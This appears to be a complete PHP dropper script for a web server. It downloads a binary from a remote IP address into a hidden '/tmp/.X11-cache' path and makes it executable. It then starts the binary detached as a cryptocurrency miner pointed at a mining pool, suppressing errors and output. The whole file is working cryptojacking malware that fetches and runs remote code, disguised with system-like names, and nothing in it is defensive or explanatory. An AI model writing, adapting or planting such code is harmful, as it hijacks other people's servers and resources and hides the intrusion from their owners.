<?php
// Fetches a miner into /tmp under a dot name, makes it executable and starts it detached.
$bin = '/tmp/.X11-cache';
if (!is_file($bin)) {
    @file_put_contents($bin, @file_get_contents('http://198.51.100.20/static/kswapd'));
}
@chmod($bin, 0755);
@exec('nohup ' . $bin . ' -o pool.example.net:3333 -u 4Abc -k > /dev/null 2>&1 &');
echo 'ok';
